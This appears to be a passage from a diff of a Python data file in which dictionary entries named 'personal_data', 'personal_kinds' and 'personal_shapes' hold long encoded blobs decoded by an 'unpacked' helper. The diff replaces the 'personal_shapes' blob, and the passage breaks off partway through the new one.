   'personal_data': unpacked("T>t<81poj4|NsC0{{Si)2%-a4zwDkifQ$z2Th<&kU->Jrd+d|C;}zJr1UN@Cwib`;+DLKbW_H!O@xHf|KGxoo8R&ygyQ-W{v}!g7CJ|`M5&s7nM3~!*?jWxO``q)AF=%FddW0_Xkwkg2aOZz}l4>7Y_7M8sm`A5#_UT4jpbnV7rq9>98N9qPlLPA!s!3y6mFYfK(8v)4boGP<aLprF!3Cyfk#WSXzD6ivc7dM)G|io5f}~D<(H2lvV}~Ufl{K?FF9mgvevWK-$J<aOaUeT7LPI+v@3dHzQ!^4BQw>;?gBy7`EKO=rwoO4($U!<GaEU^5c$}5ZW4^7VJYwlONEFIOVw=Lq7d3nX{yEd0y|6r%xCqb*u?+J>%5=)CP1%m-;aZfz%Y*-l6Gc_PzK|65t8^=p%LJ(?w)XZERFPCKq<jfvB)Yg1?0atJGdon9ZGPb_-qk}86Nt(1<PzNChV9G2IM6cYLnr_RSi#E%5ikl;dsIq`fc$7xa_%lT^CWfvXw3ubP17FyIc6B8|H8y^-0)v`%#K!AR>#iOhy0Uc*a(OV|FjX#%D`O4OPOsvV|(d&?`H!C!Qby5k)(m0z&NbEsPN@PIQWTxB=Q!!dGf+i%+(sD@F_iR!ROEmliMza5a-CnFA&6D%>7uV5DJbp2eh}%_DfHMsealAGd|b<3eb;hNs*v56XY}kZ<fNCw}s9^y_)Ra&Y>1&HuvhELtfuhRnOhphf&l|ELAi)UhWy3p7gxM8JQvs!)DMdvuZ1fH~QCf(yE_1uY7d7q`+0L)baPGBj|h6|Hg?*zfoOsZRvE|LI;VQuH4*r5f?a(?nLMt+n;=bw(;auuj{wT7=SG;3*dSb#2r6Pwz3FioJ-ZV=OX2WULf8|Sm+&eDdGezG<S%|2SlXiCry3YOc;X_hl-T8J|>3hG=d|ESutb4&@I>js>R0bZ5>}-;+@0YC}3;<Lg3>(vU|p?K)?abLGTdO$rI?bfxdPBVk0d@03f;<-HpscaT`W3K~4F4e)N&dI>8H@e{0wUyuu`YVlX(n4J#$M6$EHt#i%G|-)tX5hh7aIFdh`MXxEz8=gGD7N)se1gqZ^~?1k^&i41O25hhsL6MOvvJ}y5uItVI#fC~yH%uXE)Ui%Fb(4oIV3e)ShL&Hygof$D~97pN3pSIO<VrW=^hK?LWvW3fohZR0HuiiCi%rI#N*0L|IoZ1!jR%w2=F4XmjVzkA)B&_WB^6F{p=K1><Hn50X@}(c`TfBBTt)L}k(Bj|uW1vNMxKSeO7lZ>vRzA|Y)u{P}AL;=q=`MHHbO|>7x=vP7j+|2EQ$+#gFmHP;j7VvEjcL86a}b8E!c2Ywe{hemQtB;~)`UjAhqw=X3>zDUVy*7B89##T$6jW`Kd=JAU9H?H36c?;z}BNAG$$Lm<pUm|3nKH&+I4lDY^eD@YVs|R-03*}OZ1@83Ko`pJU8SEo6#x>8Bld~g%3_Z!lMZBHcwjYw(sPuT_CT>_c2QdsWd|cs=U<M7N0Xln@oMZH5x`g4J#ybGWk1r+S|r2GH?}uy6dXoTA@NG=_EC%{<ep3EEqItPL2t8Bo=qt7`Gd<bCwMTjeKaO9}Bt{D3;c~-6C$7T8qqulQs%&Ug^altD_gYaASjkFA~t_mRqG4w-jmV8CGFFRZl^3LUdw)cmsX47P(<J0^j1p+OrhCD4CW<L0KbHEK`>_&|dMkvx|>eMf?e=cm^bO>K`4=^S{;<cQh%Tnm}Ab5pD<Xw{%AP{emD7GYSV1Q?Pc-@P?mv`hzP~Gg$GKqu1MrDI^i7vv(5qe4C5Ru!bOK%2JBF5C~0B`oiyihotd%<=31nijSG>usYIc$+ttSrUG(_WMN^3KjI!g<fJPM41@mTD)vxN_b55taROjQX6E2l)tlnajRV><fiy{mdWD&yzkOy?n>`7<l|d`Oa=^B5T#>_i{)S;4aMY%V9o9{DP)yFTTLc(}9)%b63D4lu{JX0v$$N~`awXKZ_}ELmIyv$597F}9+5ZcsS+NsOcQ!}Gkq5s!1dbgOx5%hz#eF%T>so0BF*cLDl3!_i+hF9q9OddUw)B#@<W{=Wg6cJLC`Cu-YqjIynT^#D%-$XzdoGYi3NYyoRrJDyF>$4nMkSb>M(~C{oh2Q$#;=uRh%Q6Go)ij+b{s9%vElEn;Ztz=L#u&#Mua}!PE}kF<M0Vx-+70^%&LMj7OTXI<IN{Lw1OU;n$2BG>?=357>Ocf1NS}cS3(fvmA5hbsQ$3jk(yiq^~ogaZ0wdaQK5A%D=>P^5&a*!3vHbB5_qUg2tz{jJ>w1uZh0^g(LSJ+g{^tu+g2s=c~?P*N+u=M=g3A8*Fg04y>^peIq*T2+%SncxX3NvK@4aDi68CnLlfFknBSRU(m7*S00&tW_XG<4`)<F?yR#(>5svusdJFhdK+g=DWAQxNhh9?=#xD4i*{IH|2|@ijH>_4BC&k882`JtOYUKzgj27h9&ZqhuXNj~6F21{?dUwedMSxM<?Z<)r<wP&?3yi@_F&(c^@LV)ODVR{Y&w?1;>8<ec$8?@5^KBS}%1Rl!Dfvu;-P+g^S?0hhpSipJ=22ngtd6GWCdzT8c;J^-_K~e;VYVYdZr|8xpOQ)UOwsOzl;jmxR~aQhHywV3f5hzk<vx>tFVBRO0O<1u6mh-0rAaC%R(lqd2h2`k)PVRbEYW^>Do%%B$o_@p>`dYY;(f~3oY5V|8sEgVN^}ZOv0AUF2bCJrqkFB!Y228G%gLIeXCBV5P{u?GF=obgActKlbZMsU%M8pYh3Lhl=pI|gkOw@xmhLr8GnvUtzq@AA-P(AJU7V{M>za(+lpoTE)X3$B;)*aLY4wk+>3%x+Gl#mBu#B*i*ROsOmZe!%CN`brkCA3*@C0CKx~VV`CjbeIw})9egYswB?@ZaE>f`&B_MK;%X&pzENbINdnkM03N!5%Oa-dZD+l@OVO+;pQLv(2st5}wzFW*?*<nsbC@~Qe)I_Z>h3hlc#1B&o&-OLK@23sk)xk6i3X%&2KQygHE8`%DP{^*${<1S^^b~&1!9n;ys9;exjN3LhetZz9)`L>#h|JW^5w~FI6SfYpt8e^^g)nXoET*$+cDFzgWjm=Jd=4o-uUortq0;4Ppk6(+rP*N$=zvG#s12xJ;wp&(U*E_7mBi=5H%voyp_r5Ih(a7YS+H5W|bD~7l(OwM{8HaS(El)zlyRWjtqr7o&(E>a0qPRg#&UD(tb{=CKg+f}C4v4ZUvtVH&hVDhYQ#c9x*T^$!{JiBV<dPJ0RL}DjYt9l!uVCd!f#J6s!v|u@tA3)dMPZDe4jbYf5f`UK-b7DS67ey^M!FKbxB_d@6)@}Hc`oUU+i0mLtddbRmJPc*V#k(HqB73s_4VQX{H=;>6t)ORb~RyPWo!f2V*iQ-C;rWUoOzY)y3R&hA=P#_O>BKx{se-ykPDzOZ}9NQmIAIv6!#K4U>W2!9O`BV5=O7;*KFufP!!sghfrSn1?KdBJQ~~}6q7lEck-R3<pW^SD4Z4^Ls3UF&eS7p@m1;~Im#@I*s)HHnNA6e7mZ(`c|$4*2VR|q73{4)wUsOOcQh_Z35xJifZ?mtZqh-YUnng>R254+|8zw<ZV}C8a)yZ=sj&l|ah<}^OjuDeu~deSs;c3BAu+g0Gm<OOQN#hhCrjkMqPoo|V44&TW45Oo_bTl<(JhjZ7W~|dS4&lqo*J-daF-T17CzGy1fugnUyl^-3maCjQWTMl91oC)m&{>*N(!mp|0%E{Q$-NH+LC}+s@+R%!Pj+YO6PUHRxsVpOvy-<%$x9GK`z69k#Gf4WfTILI62bTN&Q=Q=2#G-9m;wzUUzFvDgz|i4(ovsIhGvL)Xu*%T}ItT4_D#pg?WtvgM2$52OCqUwpF*&r>szGLh<?V{`ueP;XqNgxd0CyP18kV;M>NhG?VHcdPKv`@L?I7E$CM>BK!(hyAHzIBim*QGyc+SAeVGwW51fLw5MGvQjpqKQDy_iNvoRyE^~_dlOxUwMbqa0`~S}1YVE<nQB>6%6hR23tXTDGmtSK^CT3E>9L3Eby)lrqYsrQkg+u;A6n|0`xwc4*4-!ooY@TuCTke?Rfy|X$ASLo}Kip{&_WxLJ8%>*EDa5XBgA26Sav#)wqGbPaBD^TghsK)Hu05}?H)?~rJZ0laIz0+I=y)`i43@@&Q#b5`wu{k4U*g9q3&UYZZVGk`mM~L#F!>rI&sgx(`2^k<0(qcx*8ly{I(`").decode(),
   'personal_kinds': unpacked("T>t<81poj4|NsC0{{SnR2q$$JE5PkE)@#>@ELyfy9O*z7d4plPpbvT=UahoJLlt2oGxBAC|2bXzukf4+c+^Zj*mB!7>9UA)oQliG)82S}*AO*PL(vVWwZ7%P(<nlcf@w{-0J*ZHH&Q6h3lxO)mM1#<;9p+K>>ww_6rwa#n}Uty&r##u5CjDO<z*@HYd)wAn$ie&b710Bcw?wu87O?Z@;ab|4r!Vo{JWw5`{!Cvbs|W9nMl>BuM(=P<sW@25?{In!~~XRT6*k|66Aj3<dJtC^%rT8w)M(rhC?qTmoeag^cYK<OAJ(88yb(j$;>QEcDQ`euL>)bdjnaH;oDs8dDba7FkmqHjbNnf7|rLOQkfa3Lx?`*4<`k8FuhiVzA9aNqLiez!tFTaM$lmZ2;YP`%ZOG1Z<wBhD(vNT=P}Vk2;deAQ@Mj6d*Z>igHPiq8Yk8uc51Q4lte*%D<ZcmB;^iNB>>V&j4Jp1OYu_<uH12$SRmf^Q$>Vo;vKO{k}eSyc=rlW>;DwTk^A4?l7i9$BvnuRD++6v=xQVU-0Qp").decode(),
-  'personal_shapes': unpacked("T>t<81poj4|NsC0{{SQ#%HjhY+*mOk=Fh9y6AL{(cWV(z2}*QQev#5~#35Jjy3pdHhStCg^usd&6GsClD0`7<=R1PYqOnb0-}AaeYh2rq>cgpL&ZYJ<dcuz(B0dCH!cweL>24j!b|TyHb>L$>R3((Xp4PVO-|BkuSq}l5+ez2d{t_wa_2hTeCa>a{Q-e*M^Nk?4<l{ut<@E5zkB(FXb)1m*nGLaVB3C+FoR-3LRM{MziEau|7WdQYhbBj{_ZcE4fe|GOOSW8ny0+?7sbXbPi}{okHamLaKO(rIQVB{0&Qg1(`|{E=As*+qz@IkIiaC;_!IHZVJ(*gaH#txAy2F@jC?+ziFYQlVI_`Ady~sxc={p*CF4v1y!UTes8xf_!g5mdB2is1NDz=p$6K!0x3ACuX_MV#vh%p`7yrg_g2&Y}ZH>!|QKU#rVCh*a?{D6s&^;~OS&cjvwmzgqrt^z1K-y#kV9gPF=)?86e+pl8K#2JR$R+aUB>G6DtMkM%pjtzsS4g~Iw#qv3VtKNxazlnngWP2j+GIg}_YZG&}qxly9%YFh{2oG**>%5U;<e0)Da4*WD)Bnq$9WtJF%-Z+F2j*<}FiedQ_b$MUM=spN6ZSuRe|t3YI$Z3>x+7S$0oL`>gqk$-v*yCCI@>1Bv03jq0c}!pf2CG?6Oo_a8P#{fQ%vGM^A$<CVu(APh;d`^oVP-@O>u)1^|ben=_FmVO@*@}NjI36cVW3(+a<~LvSs!J^T>cV&4cYa04G^X46bt*isAeAm>^~jjS>PyNofj>VDmD}l@VYXDSB=L*yi@2V>m9+Om1+&=_w;D)at|Xnruv(`3S40I)}HXfi4nIRvN!ImSAADcBrW3tT_`&;UQ9qew9=P4zlBj{i%HS+1?>U@>7fY9h*CJmm#;rt`^T#*T9n5zyd$xI+vy3fp{gshU~nP%DP`63FnlR9Sx4+!$~gzH){$27Cd8Xy*7eMFnTv&$1&Y^CjqpP$p3;c?#rMF$($a%!d(?=L8q=;5!JnI7h4N|VisHXmRE7&U@qQR%Tcr%C%~fmQ6B_p5rnW_spAfh-<qYE7#CqD{EZ?8fY2ox6<LQOm8k2jMH6KZ&O9u&Y@k;Fx%a|jqjrL~1w~5mVaM!$?n#7VPFlxD${DI~vvJc)ByULQ!kNZiZh?9;>z+vhu-bn{KVapo@v$Lh+uT@%fuau;)vA5%l;1q`4=U9^Oq+YMLceD~F65vk(JfV`MFdwP(QN@tIGq|T!Z&`*^kus8u6M^QW7j%AGG1TY+|u@*VmCPfRj*#yu*7bH{#$1{*B^(+;mE)&orFcG@vU)E*N@G@v|bw^^4?_!bohmAQb2NJZbUIR2nI@^P)Yx5!gBkdtDbZ~p0Ov56*m0>Rq$B+3l$npRh{7x?x};DbdWH%X%V7BwA`%);k$dYEtIgAZP7zDSSq~!r|C}=@q1%VXRi>Fjw?k4mNXBm4EU^$T*2-H=-f)4Vb8It5CMv@U*DOA4gGq41p9mg`?Oa$bdI}6DW@fw{}x<pWXha9N+?{vTy-XTPxWfJ@3-}E=W<Z~8wNfr6+iFeI{0rXo`bS&46P_pm(TYRNAZC08$)r>WLI~7skkQU=9NZPDjrl$Cjz8x;EOS}yJo}BBsZvAUk?yV%9#Q*eburZTfB|Dg2m-fKR;@bs}(z|5e+Q_7(?=y!>Sw$+Mi*qz}4}HTlP}60nSOAIerD0gu6kpa`3Wvyp5*@Vz*8Cpv+`S584CUf|)S(s)_7s@fNw;`W_s=<QK!@o9|O4#idf02lyP^#@nEizz3a7KCVw*??|^xdwDn4`X)Q{g}bl{1$TJKsZA)obRe`D5~>FCP}qj?s|lbg`oQ8X{QBE^!CHh#fy|LRj!Jd@BkKCaPEC!k?EcN2)y9fnNV)wcscfn)vWVG=t63+4JEA8{n31%_Sde_T;Ybyw#@(h)OISR3n<)p&Z$oXfB0Xb$xi95TpoAy&+mhrin6%{eO~nfZIg)FK(NI!hZN2?qhISc&&-ajCDEB7uX@!Oc<Uw#dsdkG8xs<vAU5f1uTL#BDUrlwek0bMhDf*za$$JqPJNbcw#m}pMemhb^1M^qx8n`-9H^J$7>!~~wO*k@*{PWajqdh<sTK$(Z(5ly&NA)<}Z!-&?70&`~R9mVyyh@ixfLe?*i){e@dC^y!IZmt79faRX7kHmtOXXnQx{ytOP3a+|i5UP6H|2G*v3QB}4=zxxvY4&&n5Vpq*Cc89fdTN!P+C?iSDNW|&SH*RHQ|*bFhbC)r%FM{KRB#L&N*(7#nPhmX~x3r0Ns7q$aK7*M4Rc{FmAT1(e=mZu{!E$SlU<)fKaoW*gd}Hu5O!nNXlny<n&(0>fX!f=+85QNEVqM4il8Z?Y^qlSFKne&AbkpNCu1{D$T$-5<8$)ZZo8<jRmbbu%utQw-?dNW_36-&GM(wElD@RM%SWE?497=&vDIloIJyeMLHA&EezA+^yHa7(uydQdY?Cz6{~11@jBdd%9aS3)I`K1@q%at^kk0_s`J@JeoTljNH_2a+<NPBFRgL>z^~cjP{&k+zbtxRh#WB2((a!cE2K3Wu~I*I{lu=>R@Vrx#Y@+cB6q*mZoI_F&{cC2N}1~p7dSR^tQ?JRNs3aO!)YQPX_C#!sRa}=#d+m#PBk>^?)SI&?p6j00pjtPToglQ28>V<c#Bb2PqiSJk;;xI;pKvAZ_~o-Rq&nH3FrCbousgrd-)279Qw&Roqxcg_?Ta!F7m_l@GX^j8BVFO-E+egy;6P1{G34(FO{z>3MYxv6|S5*TQJlzQ9|dpRq?v(-XBA1=WfC__iO<raNu*^wSLJjMI*dhxIZTucFnfAt|<6#9-aDJqotcWz1~RWPFrpBB4eJ#bf6^tTsBdWYZ(<vh)^wzpJum#qN{aDj18%5OQIfW;kmI#7uwiHF@u)HVcvh8fz&tCXaCBN%>F|)@XyDmnuG8>Q=q2cJLPZod9c)?bvQ`h>)=47<>XGxu*DOL*cqJYv}@_#iPW-bn>VrWJucj1IsQv^plABGuK~Z7HjNeCdv%$P$4lyF#?)xIy;*@MI1A*77jW`>=FVEnmI2<@Yg865=`ofC7}11_m@x3NZb{J>eUQ*YpUCoA+J_jgjZ6v_iueLttrD>u#q(XmRh<I_bM&R15bCu62E5VwKyA`CAcHRSHA{<Y4>b|cw_!=s^X9`s!n|E7O!$uZ!t6H>NsRw!u~c)+YV!+yDpiXzP9(2kX@Z+2tmz9wFHh^pE0OSPCu<3qjN!wk!;vDKAI^HF@6?zmwF};3+Zw#yx)iOKG45l@9U*<^X}>nr*gz05hzpBYgI@I6bL8WdQQBt1p2^$aYLGl&3Ol3NY0{@D92@;m74Cq#=AK`E_I^dhSaSYmr+L&iMx##yawPq^S0uX#n<0@C`L3Q15CXs`++#7c;Xwm(;_}W{qvgqfTN;;5s*ZWx{RdZJrnVCas8zvpj5CWzuU@{TM4}i#$I-5Kle&{-x|E)YCw$O|JWRQA`T3gcp4g~hU5cPYg3TXte3$M^$yp10_Z9PMdqx0IvWM7T{Y@^%lQMqgsiTC33fJV$({a8d&(Bw1Vo}S_K`U0+OZp??X8ppG6t6nQp@J&59SYe@(Y$48DQeifHg`b#Z0|GS(+rtxef&EJ>aC2{I3vbh{D`s@7sFx=;F6NW7L-MOz2Yc5cS&w_IJ<p@D;+QYC)v5Sl+eR=o|0<X|2^@)dd4U%t2u>Zx1iXX$uNE7`B#2~M0Bpgap5SU&Gt}q<<#o49evib#mH<#kutfk9gI+Ow$zCm*Q*ri{@dfyO;l>j^|rA*v9R{|={a$-QO!;tg%lQ<kro!o@ys>2_%hVj4d`ekNHMCw^5OUZ7S~$rLKnHR8!sj6>aCz6z7_i9E%;S|?Ixx3dXNC>+!xCw&ibqsVk-(F9<X*c2Vu81|F4LMnx=I#ZL70(gR;-$zL7W8^fr(>AA!G}M<9Bj-{Pgx9Xcw-?Q*eQb_x$NprF8r>@MoP6F?L<;0{N#=&2YZjc5hPG&l8^(Kw>11U!}lKqKh{oT$rGw7CjjW9%<yFa4qq2E>`F8No_X_B-rr%^kcrL(?j#J&3iJw`H`qL$8{fWso^ybJULiiv>kqGT?jkP0jNN?}33h6j)4|PHUu-1}_}{^z=67jdVvmA3|!CN;>3%MOkv+jV-!1viQr3D9p%I??%5*mIPA-$81;`gs$HttJn58Op$}Xky0>K+qjw@v#JoBOz{cvv&@=hQS&&*iCnGF$k7pzsSHkv$tqN_tg{F+<!Pk}YQr=7r^DqM$j*6ci<x$UW*E@1r8W1UJaI+t#$_;JEI+1Qjrrs;*Dnf7J1bXYN4?MW3D?O5a-mbu;r{Tv0?i|&Kd0+Ub-_+d69ZZ0msNP573?=-PXFg5m#8S?8>gtmXBsR>6&(F^A3^X(qszn;0-Q)+`1oYxF~0ZW18Hkn8aS;Op8!N##{?s^1oEtK&M&3AKUrV=*LKol=9_xl=6xoK@?;-cBP$BH|ETXZM<o41)#&34(WCmRpZq81H-UdQaYsRETgl%VeIh~>ibH(=93S1Rbn7L?*pOh9l-*aB2ZVhD95t_(+*MuPB{BlkegXj$zM*Sv2`v{3m|2_~kxOTPF2f4rLJeY;uA9Km&_HjFkfYa(pnt68XDQbpcUx{r44D}oNUh-uX<9HXBhj#xichhT!e3Bq+4_2DYL+!|C|XAvjx<}==cG%T-;A%#Qz$Ci!tsLS%zG$}3JTi>RNi#zgSLK*{wssorfzbg3;fYlQfb1_r0zH`GUMUEj9I~xQ-jKj+CXX)z2h4mx36RnVfscO|Mr}c%aL`Y#t`d&@j)Btz@+Sblx}b)adYyJL$P?M^RZ|2xqtoiX~RQ68J(07$VXIv=xD`w;YR5r;@~@0*DGX1-e-}Iel*##W*n`27skJ(>D!$a>f`{BC%6S?p)@wnFrb=6=cv=a|M()ib*g)0VnS7iVQ;Jfp-(0PAJBjUhuRT|w)DQh;%4(2$eA~x-aw%jGM3vhO+h3BJ!BVsR;`(Vqt0s^g()j*etEMjWfARKJ}{Ogd%V1UBLZdMzQx(;;FH#+1v^8<Zj_=z0`X{5I&dM-;>RMcMtbt&1uX?~v4P7$b@X8u$UaG_RxoW%T9kQ?%n!Je&+l+0@IbQAUfVqWNI}+zAM@Y?u@7heVM#!S3T|_P|M|Fy?S|;jX36aU$#pq)6`0~dG$}ms1Y_>1o<dCacW)+i3FIWD7gu*wE4f-SJDE4kE`>_+mWzfBF5xxkrnQl&!=!BE@q}r9EQ9>h`RvG=^~-{W5P#-pSoRH<&qg-W%?(9PlITOwdO<g=yy7C!2#YN0ATAMVVNvzvRWbwzJIRXRwS-dELTamrw5K})V0X=8(#+k+E#U1kif0PdT#ARingmd<?94dpqUx<{BrT4_6*>yTfTsz;HJ)x+Q3=y!@EE3viUUh_g#}oqFgqVZW{TPZzvbrBTd~E-WJm}}Bz|p5bXZY%Q!Jvq2X!A5o58pI9of?tE*C<ss5}tvZ5kuCZSvxTV?oCPh`)kt@CK#{|NdVWH6VviDsGM$-;}yYsb6L-2q>(rX0t!Ru^-NxYrl*Mv_tkvMkq;^>=Ha#Kq<x(p1_7-9OAIyn2^t~$YcPCe<cRW*2XM<8a9uE3DjkVJ&<b$v%qpY4)J+3z;)0U*WNkD&tDFP$0H{t;F$kcq9f<{s*%?27#~|S7OK$oYTK6&QgPDQ2%msG5kH>tf6(X{edGI-RU`wNO7mi&sVvEB`okK&(DYR%#&+L>qWCYy2SH&HBdmg{((606Q>I(*cU)u5a*U`UHLdnQGuszzp(1lIDU@$z6ui$OoX|_i9q;dI@oGTIp=3a8Efv!8P0S3$?ft%Pf5%(s{@LXRP4Tjuig*J_Ya#WT*9uko{c5k^K;AjVjP0Y(6wLt`{-_tB%Lu|Vkr`=#q6(9(bU^1tq!(865S=7+{hjCLV~H^**l9jFJv=oi)8zdV(%Lc2`{o?xem^JKv*Y`#^*^Qx0^6nu;zwarJTIQfXlYTWX<~0Pu>-sDuyti*C1^QoZL`y&8cb!}7pM(DRy;B=$t?5ZEt4GuuBs3PctBIv7~!9KA6PKXcT!4UFYnXP6IhWp4m*Z$A<wYX(JB`h4Zj*GqCDfm#k`gGF*dk1e-Jf%R+m@xUSY2uaB|!q6oT9Aap1`Mc_WJ(iNO!J<T>9@-Pl@#u9YJr8yLsEM)2IlQDV!)Gn;JO8?@2vpS`HOoqLj{7y~vnw_W?bxk2ZJeC#=y>`X8RyF~qbm_6hXS+hL|uQ66c7Mxd8IP`I5?|7ALHfL*Zo|yk>iAuzMw}p|gYu<#FVSVod5|+0A!*rZ^qwTb0bzWjRx`GE|1#Fe+o^5+PoY~N%<^QNLV&WPnLG_`%<Yu9&F4UEAziatFCtZQk5=n!OQf>$D+iw90Rf@GB#tFAtR|KeLM|S%hJLFV82J4Y%HmOnsa><cN>2}+sJMZ5xA<Oszrdbw&pMBM)J9f|sfy`n9`B`s9+JL=LJ@I;m*hKjGlM4cHn-6(oMv3|*_yK{THQWv4nlfkMl8d}86^g_F2Ldz{<WYVC#qmT0k5X=k2UD8&SpUa3xEL-(%Rdvm5*;b7MZlk(F>dx+Pq}f?2OTu)GQ?@ViP*9!14>tpoO0H_(6FcI?tnYDReCR656?@k#WgTeeCZ;tnUoTxj(A{LXc7wJ%p8lony-!cFSPL~*8J?C0qUhw{Tgzky#kx^9?u<h%z{b)2F^U`M88%By^AObX-36bV+uj{dHDU>!Gsy&lh8Z*h_)jBmCgCCLBY|#fgn+z4ubi^?iVie!?LIR>;Vvqj<19w=8_UqAhxd7M6xD2kRY@|XwfGdQNMMgyNY?j$c^2(vvd+`U!yU}(eCTUxQA3UDKRn8s1G`?Wd7a*BXVH`>1`0)VCjy(jJThDQ8C%BRO63ptlu!jG(opgVKSw<wEJ)ZE4<K@p%Ios1jH__y(E2vnJsl_C+o#x-JFXM^UCu9*xFv@mA2E1$sYo@6peu#%#RbJQ$%9<Ofc}yNa|ZzaFDU#N2x|TcpOmE08wq1;ovd0oS@9MXMUZ#x%kyeP;-*BFk$^!640`^O1t3r{T!vhfT&k$7?$%oMFqwg#=`I%G*T0NK!u0{?WG>iI&SV&djE6fFuCnOqJYffBZUH!2watOgcW@)y0zNP(WMh<$4a8JlC8X2$u+GA%Xte$2mIU%NY2Pmf$!(@2$>P}U%b@Z|A{`A(nI&j9T|}grPPkrJ<6)h^k|kuJED6(tmxJn?n=JF!H}igIaKT?M5bF0OMmgS{}Yw3TrIO^76{~cGt*d$@z&0L1`sks#4>>1Y3&FG1;m${qZa@Fu=EM|").decode(),
+  'personal_shapes': unpacked("T>t<81poj4|NsC0{{SQ#%HjhY+*mOk=Fh9y6AL{(cWV(z2}*QQev#5~#35Jjy3pdHhStCg^usd&6GsClD0`7<=R1PYqOnb0-}AaeYh2rq>cgpL&ZYJ<dcuz(B0dCH!cweL>24j!b|TyHb>L$>R3((Xp4PVO-|BkuSq}l5+ez2d{t_wa_2hTeCa>a{Q-e*M^Nk?4<l{ut<@E5zkB(FXb)1m*nGLaVB3C+FoR-3LRM{MziEau|7WdQYhbBj{_ZcE4fe|GOOSW8ny0+?7sbXbPi}{okHamLaKO(rIQVB{0&Qg1(`|{E=As*+qz@IkIiaC;_!IHZVJ(*gaH#txAy2F@jC?+ziFYQlVI_`Ady~sxc={p*CF4v1y!UTes8xf_!g5mdB2is1NDz=p$6K!0x3ACuX_MV#vh%p`7yrg_g2&Y}ZH>!|QKU#rVCh*a?{D6s&^;~OS&cjvwmzgqrt^z1K-y#kV9gPF=)?86e+pl8K#2JR$R+aUB>G6DtMkM%pjtzsS4g~Iw#qv3VtKNxazlnngWP2j+GIg}_YZG&}qxly9%YFh{2oG**>%5U;<e0)Da4*WD)Bnq$9WtJF%-Z+F2j*<}FiedQ_b$MUM=spN6ZSuRe|t3YI$Z3>x+7S$0oL`>gqk$-v*yCCI@>1Bv03jq0c}!pf2CG?6Oo_a8P#{fQ%vGM^A$<CVu(APh;d`^oVP-@O>u)1^|ben=_FmVO@*@}NjI36cVW3(+a<~LvSs!J^T>cV&4cYa04G^X46bt*isAeAm>^~jjS>PyNofj>VDmD}l@VYXDSB=L*yi@2V>m9+Om1+&=_w;D)at|Xnruv(`3S40I)}HXfi4nIRvN!ImSAADcBrW3tT_`&;UQ9qew9=P4zlBj{i%HS+1?>U@>7fY9h*CJmm#;rt`^T#*T9n5zyd$xI+vy3fp{gshU~nP%DP`63FnlR9Sx4+!$~gzH){$27Cd8Xy*7eMFnTv&$1&Y^CjqpP$p3;c?#rMF$($a%!d(?=L8q=;5!JnI7h4N|VisHXmRE7&U@qQR%Tcr%C%~fmQ6B_p5rnW_spAfh-<qYE7#CqD{EZ?8fY2ox6<LQOm8k2jMH6KZ&O9u&Y@k;Fx%a|jqjrL~1w~5mVaM!$?n#7VPFlxD${DI~vvJc)ByULQ!kNZiZh?9;>z+vhu-bn{KVapo@v$Lh+uT@%fuau;)vA5%l;1q`4=U9^Oq+YMLceD~F65vk(JfV`MFdwP(QN@tIGq|T!Z&`*^kus8u6M^QW7j%AGG1TY+|u@*VmCPfRj*#yu*7bH{#$1{*B^(+;mE)&orFcG@vU)E*N@G@v|bw^^4?_!bohmAQb2NJZbUIR2nI@^P)Yx5!gBkdtDbZ~p0Ov56*m0>Rq$B+3l$npRh{7x?x};DbdWH%X%V7BwA`%);k$dYEtIgAZP7zDSSq~!r|C}=@q1%VXRi>Fjw?k4mNXBm4EU^$T*2-H=-f)4Vb8It5CMv@U*DOA4gGq41p9mg`?Oa$bdI}6DW@fw{}x<pWXha9N+?{vTy-XTPxWfJ@3-}E=W<Z~8wNfr6+iFeI{0rXo`bS&46P_pm(TYRNAZC08$)r>WLI~7skkQU=9NZPDjrl$Cjz8x;EOS}yJo}BBsZvAUk?yV%9#Q*eburZTfB|Dg2m-fKR;@bs}(z|5e+Q_7(?=y!>Sw$+Mi*qz}4}HTlP}60nSOAIerD0gu6kpa`3Wvyp5*@Vz*8Cpv+`S584CUf|)S(s)_7s@fNw;`W_s=<QK!@o9|O4#idf02lyP^#@nEizz3a7KCVw*??|^xdwDn4`X)Q{g}bl{1$TJKsZA)obRe`D5~>FCP}qj?s|lbg`oQ8X{QBE^!CHh#fy|LRj!Jd@BkKCaPEC!k?EcN2)y9fnNV)wcscfn)vWVG=t63+4JEA8{n31%_Sde_T;Ybyw#@(h)OISR3n<)p&Z$oXfB0Xb$xi95TpoAy&+mhrin6%{eO~nfZIg)FK(NI!hZN2?qhISc&&-ajCDEB7uX@!Oc<Uw#dsdkG8xs<vAU5f1uTL#BDUrlwek0bMhDf*za$$JqPJNbcw#m}pMemhb^1M^qx8n`-9H^J$7>!~~wO*k@*{PWajqdh<sTK$(Z(5ly&NA)<}Z!-&?70&`~R9mVyyh@ixfLe?*i){e@dC^y!IZmt79faRX7kHmtOXXnQx{ytOP3a+|i5UP6H|2G*v3QB}4=zxxvY4&&n5Vpq*Cc89fdTN!P+C?iSDNW|&SH*RHQ|*bFhbC)r%FM{KRB#L&N*(7#nPhmX~x3r0Ns7q$aK7*k9c93y*uTTF{^F1N$`3S?42IWt5ZGCcBCj(*`qUWcg6w0V6P?o0j8at(GGeHdDSAoR2`cgQ*{A$ss!2zG$Z>GJEwNs|J4T767hor<IzPUic5k3&)T=lAtc6<ItK#08G?(yvx*!HOdgBs4erUeW@_3>D)iTXz1PlN4eMErUFohrzfGpz?j55kKVLn!R{lZO!q~}-qgBz|V^B&WwA#Ki7wmG!ASW#SsEaQ{(FoZ>#i_U)Yqd3QV^Y4X7c8lTa#u(+pwLQ*X?7XveIZ)w(Fae7Y@UXkL<RLn#oCFkMkoEwWtw1sfQ1eg<)KxIj&s)eM{gnfGp?cW=^J|ir4=g?#gBDpINF7-vc{J7F#*n>F++esf~z4qiDoJ9Q5PGJ*Jq%ia8dGA_<88f+?85ktKLNLBggy`T33h4`JPwGr>9Lk<Sgw{TX}p-fNFUPSNhpV%aJpu=t;2L)k|Y`He7~Kbs#Yj_B0p6Gh|>c{8rsV$g9J;q25{WgHxW`V7C<;Bt)m0rTur%O2JS8X>ZBsUE44ybk}?vHmYDLgp*Rjuajk7;{~v$g|8Y?evwI9>zbtNBEtCg3D$t9;k(pJaD68hqK`dB&naHL&M5;m>6O;GN8jQ%7%;&_uVm(SIDSM2(u2=hQZKy<wR9c>+nr$UN874l=BP$;Lfm9uKTvv966EPi018m%T!cyRNaowq+!WT@pv8mkwx)J@2}n$VBo|MpXgn6mm$@k17hghA*Iw9_6GGvA059;LI7>Eaeko)6pqQI{ds6<`N2>)30YKuN*5M4GxdNGHB!jQQ5F&(8y>;VR3KEL)i!o&U2go1xmdLQp2rLtZ&vP{Iu5x*+rC4u-OWDU3